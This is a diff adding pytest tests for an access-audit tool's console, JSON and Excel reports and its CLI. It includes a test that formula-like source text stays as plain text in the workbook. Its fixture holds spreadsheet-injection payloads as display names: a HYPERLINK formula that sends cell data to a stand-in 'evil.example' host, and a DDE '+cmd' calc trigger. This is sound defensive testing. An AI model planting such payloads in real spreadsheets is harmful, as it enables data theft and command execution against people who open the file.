@@ -1,0 +1,170 @@
+"""Console, JSON and Excel reports, the workbook helpers, and the `audit` / `rules` commands."""
+
+from __future__ import annotations
+
+import json
+import zipfile
+from pathlib import Path
+
+import openpyxl
+import pandas as pd
+import pytest
+from openpyxl import Workbook
+
+from accessaudit.audit import AuditResult, run_audit
+from accessaudit.cli import main
+from accessaudit.errors import AccessAuditError
+from accessaudit.reports._xlsx import atomic_save, cell_value, date_cell, text_cell
+from accessaudit.reports.console import summary_table
+from accessaudit.reports.excel import write_report
+from accessaudit.reports.json import findings_json
+from accessaudit.snapshot import Snapshot
+from test_rules_support import account, grant, group, member, org, person, policy, resource
+
+EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+def sample() -> Snapshot:
+    return org(
+        people=[person("gone", status="terminated", end_date="2026-10-01")],
+        accounts=[
+            account("jdoe", last_sign_in="2026-06-01", display_name=EVIL),
+            account("gone", display_name="+cmd|' /C calc'!A0"),
+            account("ghost", person_id=None, display_name="@SUM(1+1)"),
+            account("adm"),
+        ],
+        groups=[group("Domain Admins", privileged=True), group("Staff")],
+        memberships=[member("Domain Admins", "adm"), member("Staff", "jdoe")],
+        resources=[resource("Payroll", sensitivity="restricted")],
+        grants=[grant("Staff", "Payroll")],
+    )
+
+
+@pytest.fixture
+def result() -> AuditResult:
+    return run_audit(sample(), policy())
+
+
+def test_console_summary_lists_every_rule_run_and_totals(result: AuditResult) -> None:
+    text = summary_table(result)
+    assert "leaver-active" in text and "retention-overdue" in text
+    assert "total" in text and "critical" in text
+
+
+def test_json_is_an_array_with_evidence_objects_and_iso_dates(result: AuditResult) -> None:
+    items = json.loads(findings_json(result))
+    assert isinstance(items, list) and len(items) == len(result.findings)
+    leaver = next(i for i in items if i["rule"] == "leaver-active")
+    assert leaver["severity"] == "critical"
+    assert isinstance(leaver["evidence"], dict)
+    assert leaver["evidence"]["hr_end_date"].startswith("2026-10-01T00:00:00")
+    assert isinstance(leaver["controls"], list)
+    assert "NaN" not in findings_json(result)
+
+
+def test_excel_report_has_the_sheets_and_layout(tmp_path: Path, result: AuditResult) -> None:
+    path = tmp_path / "report.xlsx"
+    write_report(path, result, sample())
+    book = openpyxl.load_workbook(path)
+    fired = [r for r in result.rules_run if r in set(result.findings["rule"])]
+    assert book.sheetnames == ["Summary", "Findings", *fired, "Accounts", "Access"]
+    findings = book["Findings"]
+    assert findings.freeze_panes == "A2"
+    assert findings.auto_filter.ref == f"A1:L{len(result.findings) + 1}"
+    assert findings.column_dimensions["J"].width == 80  # message
+    header = [c.value for c in findings[1]]
+    assert header[:3] == ["finding_id", "severity", "rule"]
+    severity = next(r[1] for r in findings.iter_rows(min_row=2) if r[1].value == "critical")
+    assert severity.fill.fgColor.rgb.endswith("C00000")
+    accounts = book["Accounts"]
+    columns = [c.value for c in accounts[1]]
+    row = {columns[i]: c for i, c in enumerate(next(accounts.iter_rows(min_row=2)))}
+    assert row["last_sign_in"].is_date
+    assert row["last_sign_in"].value.year == 2026
+    assert len(list(accounts.iter_rows(min_row=2))) == 4
+    leaver_sheet = book["leaver-active"]
+    names = [c.value for c in leaver_sheet[1]]
+    assert "evidence: hr_end_date" in names
+    end = leaver_sheet.cell(row=2, column=names.index("evidence: hr_end_date") + 1)
+    assert end.is_date
+
+
+def test_source_text_that_looks_like_a_formula_stays_text(
+    tmp_path: Path, result: AuditResult
+) -> None:
+    path = tmp_path / "report.xlsx"
+    write_report(path, result, sample())
+    with zipfile.ZipFile(path) as archive:
+        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
+        xml = "".join(archive.read(n).decode() for n in sheets)
+    assert "<f>" not in xml and "<f " not in xml
+    book = openpyxl.load_workbook(path)
+    values = {c.value: c.data_type for row in book["Accounts"].iter_rows() for c in row}
+    for text in (EVIL, "+cmd|' /C calc'!A0", "@SUM(1+1)"):
+        assert values[text] == "s"
+
+
+def test_text_cell_is_inline_string_whatever_the_value(tmp_path: Path) -> None:
+    book = Workbook(write_only=True)
+    sheet = book.create_sheet("x")
+    sheet.append(
+        [
+            text_cell(sheet, "=1+1"),
+            text_cell(sheet, "\tx"),
+            cell_value(sheet, "-2+3"),
+            date_cell(sheet, pd.Timestamp("2026-11-21 10:00", tz="UTC")),
+        ]
+    )
+    atomic_save(book, tmp_path / "x.xlsx")
+    with zipfile.ZipFile(tmp_path / "x.xlsx") as archive:
+        xml = archive.read("xl/worksheets/sheet1.xml").decode()
+    assert xml.count('t="inlineStr"') == 3 and "<f>" not in xml
+    cell = openpyxl.load_workbook(tmp_path / "x.xlsx")["x"]["D1"]
+    assert cell.is_date and cell.value.hour == 10
+
+
+def test_failed_save_leaves_nothing_half_written(tmp_path: Path, result: AuditResult) -> None:
+    target = tmp_path / "report.xlsx"
+    target.mkdir()  # a folder in the way: the rename fails after the workbook is written
+    with pytest.raises(AccessAuditError, match="report.xlsx"):
+        write_report(target, result, sample())
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["report.xlsx"]
+    assert target.is_dir()
+
+
+@pytest.fixture
+def saved(tmp_path: Path) -> tuple[Path, Path]:
+    snapshot_dir = sample().save(tmp_path / "snap")
+    config = tmp_path / "audit.toml"
+    config.write_text('[audit]\nas_of = "2026-11-21"\n\n[policy]\nstale_days = 90\n')
+    return config, snapshot_dir
+
+
+def test_cli_json_prints_only_the_array(
+    saved: tuple[Path, Path], capsys: pytest.CaptureFixture[str]
+) -> None:
+    config, snapshot_dir = saved
+    code = main(["audit", "--config", str(config), "--snapshot", str(snapshot_dir),
+                 "--format", "json"])  # fmt: skip
+    out = capsys.readouterr().out
+    assert code == 0
+    items = json.loads(out)
+    assert {i["rule"] for i in items} >= {"leaver-active", "orphan-account"}
+
+
+def test_cli_fail_on_sets_exit_status_and_excel_is_written(
+    saved: tuple[Path, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    config, snapshot_dir = saved
+    base = ["audit", "--config", str(config), "--snapshot", str(snapshot_dir)]
+    assert main([*base, "--fail-on", "critical", "--excel", str(tmp_path / "r.xlsx")]) == 1
+    assert (tmp_path / "r.xlsx").is_file()
+    assert main([*base, "--fail-on", "critical", "--rules", "stale-account"]) == 0
+    assert main([*base, "--rules", "stale-acount"]) == 2
+    assert "stale-acount" in capsys.readouterr().err
+
+
+def test_cli_rules_catalogue_as_json(capsys: pytest.CaptureFixture[str]) -> None:
+    assert main(["rules", "--format", "json"]) == 0
+    items = json.loads(capsys.readouterr().out)
+    assert len(items) == 15 and items[0]["controls"]
